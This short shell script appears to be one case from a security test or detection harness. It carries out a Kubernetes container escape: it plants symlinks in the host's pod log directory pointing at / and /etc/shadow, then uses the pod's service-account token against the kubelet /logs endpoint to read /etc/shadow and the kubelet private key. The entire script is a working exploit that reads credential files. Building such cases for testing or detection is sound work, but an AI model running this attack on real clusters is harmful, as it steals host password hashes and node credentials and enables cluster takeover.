#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/var/log/pods/x /host/var/lib/kubelet/pods; ln -s / /host/var/log/root; ln -sf /etc/shadow /host/var/log/pods/x/0.log
for p in root/etc/shadow root/var/lib/kubelet/pki/kubelet.key pods/x/0.log; do curl -s -H "Authorization: Bearer $(cat /run/secrets/kubernetes.io/serviceaccount/token)" "http://10.77.0.1:10250/logs/$p" >>/tmp/l; done
test -s /tmp/l
took_place
